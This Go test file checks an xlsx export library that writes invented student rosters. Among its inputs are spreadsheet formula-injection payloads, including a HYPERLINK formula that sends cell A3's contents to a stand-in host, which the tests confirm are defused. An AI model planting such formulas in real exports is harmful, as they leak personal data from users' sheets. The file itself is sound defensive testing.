package export

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// All people, numbers and schools below are invented. ID-like strings use
// area code 999999, which is not assigned to any place; phone numbers are
// 138 0000 xxxx test numbers.

var testCols = []Column{
	{Header: "姓名"},
	{Header: "学号"},
	{Header: "身份证号"},
	{Header: "电话"},
	{Header: "年龄"},
	{Header: "得分"},
	{Header: "已确认"},
	{Header: "筛查日期"},
	{Header: "备注"},
}

const testNote = "导出人 test.user · 2026-11-29 10:02 · 仅供工作使用，不得外传"

// writeBook writes rows with New/Row/Write and returns the file bytes.
func writeBook(t testing.TB, name string, cols []Column, note string, rows [][]any) []byte {
	t.Helper()
	sh, err := New(name, cols, note)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	defer sh.Close()
	for i, r := range rows {
		if err := sh.Row(r...); err != nil {
			t.Fatalf("Row %d: %v", i, err)
		}
	}
	var buf bytes.Buffer
	if err := sh.Write(&buf); err != nil {
		t.Fatalf("Write: %v", err)
	}
	return buf.Bytes()
}

func openBook(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("OpenReader: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// sheetXML returns the raw worksheet XML, to check what excelize's reader
// might normalise away.
func sheetXML(t *testing.T, data []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestRoundTrip(t *testing.T) {
	shanghai := time.FixedZone("CST", 8*3600)
	// 01:30 on 30 Nov in Shanghai is still 29 Nov in UTC. The date written
	// must be the calendar day in the value's own location, 30 Nov.
	day := time.Date(2026, 11, 30, 1, 30, 0, 0, shanghai)
	rows := [][]any{
		{"测试甲", "0012026001", "999999201001011234", "13800000000", 15, 87.5, true, day, `=HYPERLINK("http://example.invalid/?"&A3,"点击")`},
		{"测试乙", "20260002", "99999920100101123X", "+8613800000001", int64(16), float64(-2), false, nil, "-5"},
		{"测试丙", "20260003", nil, "13800000002", nil, nil, nil, time.Time{}, "@cmd"},
		{"\t=1", " =1", "-", "+SUM(A1)", int64(1234567890123456789), uint64(18446744073709551615), nil, nil, "正常文字"},
		{"测试丁"}, // short row: the rest stays empty
	}
	data := writeBook(t, "东区/学生名单:2026*", testCols, testNote, rows)
	f := openBook(t, data)

	wantName := "东区_学生名单_2026_"
	if got := f.GetSheetList(); len(got) != 1 || got[0] != wantName {
		t.Fatalf("sheets = %q, want [%q]", got, wantName)
	}
	got, err := f.GetRows(wantName)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{testNote},
		{"姓名", "学号", "身份证号", "电话", "年龄", "得分", "已确认", "筛查日期", "备注"},
		{"测试甲", "0012026001", "999999201001011234", "13800000000", "15", "87.5", "TRUE", "2026-11-30", `'=HYPERLINK("http://example.invalid/?"&A3,"点击")`},
		{"测试乙", "20260002", "99999920100101123X", "'+8613800000001", "16", "-2", "FALSE", "", "'-5"},
		{"测试丙", "20260003", "", "13800000002", "", "", "", "", "'@cmd"},
		{"'\t=1", "' =1", "'-", "'+SUM(A1)", "1234567890123456789", "18446744073709551615", "", "", "正常文字"},
		{"测试丁"},
	}
	if len(got) != len(want) {
		t.Fatalf("got %d rows, want %d: %q", len(got), len(want), got)
	}
	for i := range want {
		if fmt.Sprintf("%q", got[i]) != fmt.Sprintf("%q", want[i]) {
			t.Errorf("row %d:\n got %q\nwant %q", i+1, got[i], want[i])
		}
	}

	// No cell anywhere carries a formula, by excelize's reading and in the
	// raw XML.
	for r := 1; r <= len(want); r++ {
		for c := 1; c <= len(testCols); c++ {
			ref, _ := excelize.CoordinatesToCellName(c, r)
			if fm, err := f.GetCellFormula(wantName, ref); err != nil || fm != "" {
				t.Errorf("%s: formula %q, err %v", ref, fm, err)
			}
		}
	}
	x := sheetXML(t, data)
	if strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
		t.Errorf("worksheet XML contains a formula element")
	}

	// Strings are stored as inline strings with the text format, so long
	// digit strings can never be reinterpreted as numbers.
	for _, ref := range []string{"A3", "B3", "C3", "D3", "I3", "B4", "D4", "I4", "E6", "F6"} {
		typ, err := f.GetCellType(wantName, ref)
		if err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("%s: type %v, err %v; want inline string", ref, typ, err)
		}
		if fmtID := numFmtOf(t, f, wantName, ref); fmtID != textFormat {
			t.Errorf("%s: number format %d, want %d (text)", ref, fmtID, textFormat)
		}
	}
	if !strings.Contains(x, "<is><t>999999201001011234</t></is>") {
		t.Errorf("ID number not stored verbatim as inline string")
	}

	// Real numbers stay numbers.
	for _, ref := range []string{"E3", "F3", "E4", "F4"} {
		if typ, _ := f.GetCellType(wantName, ref); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("%s: number stored as string", ref)
		}
	}

	// Dates are numeric date serials with the yyyy-mm-dd format, and
	// carry no time of day.
	raw, err := f.GetCellValue(wantName, "H3", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if raw != "46356" { // 2026-11-30 in the 1900 date system
		t.Errorf("H3 raw = %q, want serial 46356", raw)
	}
	st := styleOf(t, f, wantName, "H3")
	if st.CustomNumFmt == nil || *st.CustomNumFmt != dateFormat {
		t.Errorf("H3 number format = %v, want %q", st.CustomNumFmt, dateFormat)
	}

	// Header: bold, and frozen together with the note line above it.
	if st := styleOf(t, f, wantName, "A2"); st.Font == nil || !st.Font.Bold {
		t.Errorf("header not bold")
	}
	panes, err := f.GetPanes(wantName)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 2 || panes.TopLeftCell != "A3" {
		t.Errorf("panes = %+v, want frozen above A3", panes)
	}
	merged, err := f.GetMergeCells(wantName)
	if err != nil {
		t.Fatal(err)
	}
	if len(merged) != 1 || merged[0].GetStartAxis() != "A1" || merged[0].GetEndAxis() != "I1" {
		t.Errorf("note row not merged across A1:I1: %v", merged)
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Description != testNote || props.Creator != "Huhang" {
		t.Errorf("doc props = %+v", props)
	}
}

func numFmtOf(t *testing.T, f *excelize.File, sheet, ref string) int {
	t.Helper()
	return styleOf(t, f, sheet, ref).NumFmt
}

func styleOf(t *testing.T, f *excelize.File, sheet, ref string) *excelize.Style {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

func TestNoNoteHeaderFirst(t *testing.T) {
	data := writeBook(t, "名单", []Column{{Header: "姓名"}, {Header: "=危险表头"}}, "", [][]any{{"测试甲", "x"}})
	f := openBook(t, data)
	got, err := f.GetRows("名单")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0][0] != "姓名" || got[0][1] != "'=危险表头" || got[1][0] != "测试甲" {
		t.Errorf("rows = %q", got)
	}
	panes, _ := f.GetPanes("名单")
	if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want frozen above A2", panes)
	}
	if m, _ := f.GetMergeCells("名单"); len(m) != 0 {
		t.Errorf("unexpected merged cells %v", m)
	}
}

// TestManyRowsOrder crosses the sample buffer boundary, so rows come both
// from the buffer and straight from the stream.
func TestManyRowsOrder(t *testing.T) {
	const n = sampleRows*2 + 7
	sh, err := New("顺序", []Column{{Header: "序号"}, {Header: "学号"}}, "备注行")
	if err != nil {
		t.Fatal(err)
	}
	for i := range n {
		if err := sh.Row(i, fmt.Sprintf("%010d", i)); err != nil {
			t.Fatal(err)
		}
	}
	if sh.Rows() != n {
		t.Fatalf("Rows = %d, want %d", sh.Rows(), n)
	}
	var buf bytes.Buffer
	if err := sh.Write(&buf); err != nil {
		t.Fatal(err)
	}
	if sh.Rows() != n {
		t.Errorf("Rows after Write = %d", sh.Rows())
	}
	rows, err := openBook(t, buf.Bytes()).GetRows("顺序")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != n+2 {
		t.Fatalf("read %d rows, want %d", len(rows), n+2)
	}
	for i := range n {
		r := rows[i+2]
		if r[0] != fmt.Sprint(i) || r[1] != fmt.Sprintf("%010d", i) {
			t.Fatalf("data row %d = %q", i, r)
		}
	}
}

func TestRowErrors(t *testing.T) {
	sh, err := New("x", []Column{{Header: "a"}, {Header: "b"}}, "")
	if err != nil {
		t.Fatal(err)
	}
	defer sh.Close()
	if err := sh.Row("1", "2", "3"); !errors.Is(err, ErrTooManyValues) {
		t.Errorf("3 values in 2 columns: %v", err)
	}
	// excelize.Cell can carry a formula; it must not be accepted.
	if err := sh.Row(excelize.Cell{Formula: "1+1"}); err == nil {
		t.Errorf("excelize.Cell accepted")
	}
	if err := sh.Row("ok", struct{}{}); err == nil || !strings.Contains(err.Error(), "column 2 (b)") {
		t.Errorf("struct accepted or unclear error: %v", err)
	}
	if err := sh.Row([]byte("x")); err == nil {
		t.Errorf("[]byte accepted")
	}
	if sh.Rows() != 0 {
		t.Errorf("Rows = %d after rejected rows", sh.Rows())
	}
	if err := sh.Row("ok"); err != nil {
		t.Fatal(err)
	}
	if err := sh.Write(io.Discard); err != nil {
		t.Fatal(err)
	}
	if err := sh.Row("late"); !errors.Is(err, ErrClosed) {
		t.Errorf("Row after Write: %v", err)
	}
	if err := sh.Write(io.Discard); !errors.Is(err, ErrClosed) {
		t.Errorf("second Write: %v", err)
	}
	if err := sh.Close(); err != nil {
		t.Errorf("Close after Write: %v", err)
	}
	if _, err := New("x", nil, ""); !errors.Is(err, ErrNoColumns) {
		t.Errorf("New without columns: %v", err)
	}
}

func TestColumnWidths(t *testing.T) {
	cols := []Column{
		{Header: "姓名"},            // CJK header, short values
		{Header: "ID"},            // ASCII header, 18-char values
		{Header: "备注", Width: 33}, // explicit width wins
		{Header: "说明"},            // very long value is capped
		{Header: "x"},             // empty column gets the minimum
		{Header: "长长长长长长长长长长"},    // 20 display columns
	}
	long := strings.Repeat("很长的自由文本", 50)
	data := writeBook(t, "宽度", cols, "", [][]any{{"测试甲", "999999201001011234", "", long}})
	f := openBook(t, data)
	for col, want := range map[string]float64{
		"A": 2*3 + 2, // "测试甲" = 6, header "姓名" = 4+1
		"B": 18 + 2,
		"C": 33,
		"D": maxWidth,
		"E": minWidth,
		"F": 20 + 1 + 2,
	} {
		got, err := f.GetColWidth("宽度", col)
		if err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("column %s width = %v, want %v", col, got, want)
		}
	}
	if w := displayWidth("学生名单"); w != 8 {
		t.Errorf("displayWidth(学生名单) = %d", w)
	}
	if w := displayWidth("ab\n学生名单x"); w != 9 {
		t.Errorf("displayWidth multi-line = %d", w)
	}
}

func TestSanitizeSheetName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"学生名单", "学生名单"},
		{`a:b\c/d?e*f[g]h`, "a_b_c_d_e_f_g_h"},
		{"'引号'", "引号"},
		{"  '' 名单 ''  ", "名单"},
		{"", "Sheet1"},
		{"   ", "Sheet1"},
		{"名单\n2026\t", "名单2026"},
		{"History", "History_"},
		{"history", "history_"},
		{strings.Repeat("名", 40), strings.Repeat("名", 31)},
		{strings.Repeat("a", 30) + "😀", strings.Repeat("a", 30)}, // emoji = 2 UTF-16 units
		{strings.Repeat("a", 29) + "😀b", strings.Repeat("a", 29) + "😀"},
		{strings.Repeat("a", 30) + "'b", strings.Repeat("a", 30)}, // no trailing ' after cutting
		{"\u202e名单", "名单"},
	}
	for _, tt := range tests {
		got := sanitizeSheetName(tt.in)
		if got != tt.want {
			t.Errorf("sanitizeSheetName(%q) = %q, want %q", tt.in, got, tt.want)
		}
		// Whatever we produce, excelize (and so Excel's rules) accepts it.
		f := excelize.NewFile()
		if _, err := f.NewSheet(got); err != nil {
			t.Errorf("excelize rejects %q: %v", got, err)
		}
		f.Close()
	}
}

// TestBigExport writes 200,000 rows. It takes several seconds, so it only
// runs with HUHANG_BIG=1. It checks correctness, not speed.
func TestBigExport(t *testing.T) {
	if os.Getenv("HUHANG_BIG") != "1" {
		t.Skip("set HUHANG_BIG=1 to run the 200,000-row export")
	}
	const n = 200_000
	sh, err := New("全区学生", testCols, testNote)
	if err != nil {
		t.Fatal(err)
	}
	defer sh.Close()
	day := time.Date(2026, 11, 29, 0, 0, 0, 0, time.UTC)
	for i := range n {
		if err := sh.Row(fmt.Sprintf("测试%06d", i), fmt.Sprintf("%010d", i), fmt.Sprintf("999999201001%06d", i),
			fmt.Sprintf("138%08d", i), 12+i%6, float64(i%100), i%2 == 0, day, "=1+1"); err != nil {
			t.Fatal(err)
		}
	}
	if sh.Rows() != n {
		t.Fatalf("Rows = %d", sh.Rows())
	}
	path := t.TempDir() + "/big.xlsx"
	out, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := sh.Write(out); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	it, err := f.Rows("全区学生")
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	var last []string
	for it.Next() {
		count++
		if last, err = it.Columns(); err != nil {
			t.Fatal(err)
		}
	}
	if err := it.Close(); err != nil {
		t.Fatal(err)
	}
	if count != n+2 {
		t.Errorf("file has %d rows, want %d", count, n+2)
	}
	if len(last) < 3 || last[2] != fmt.Sprintf("999999201001%06d", n-1) {
		t.Errorf("last row = %q", last)
	}
}

// BenchmarkWrite20000 writes a 20,000-row export per iteration and reports
// time and allocations per data row.
func BenchmarkWrite20000(b *testing.B) {
	const n = 20_000
	day := time.Date(2026, 11, 29, 0, 0, 0, 0, time.UTC)
	names := make([]string, n)
	ids := make([]string, n)
	for i := range n {
		names[i] = fmt.Sprintf("测试%05d", i)
		ids[i] = fmt.Sprintf("999999201001%06d", i)
	}
	b.ReportAllocs()
	var ms0, ms1 runtime.MemStats
	runtime.ReadMemStats(&ms0)
	for b.Loop() {
		sh, err := New("基准", testCols, testNote)
		if err != nil {
			b.Fatal(err)
		}
		for i := range n {
			if err := sh.Row(names[i], ids[i][8:], ids[i], "13800000000", 15, 87.5, true, day, "正常文字"); err != nil {
				b.Fatal(err)
			}
		}
		if err := sh.Write(io.Discard); err != nil {
			b.Fatal(err)
		}
	}
	runtime.ReadMemStats(&ms1)
	rows := float64(b.N) * n
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/rows, "ns/row")
	b.ReportMetric(float64(ms1.Mallocs-ms0.Mallocs)/rows, "allocs/row")
}
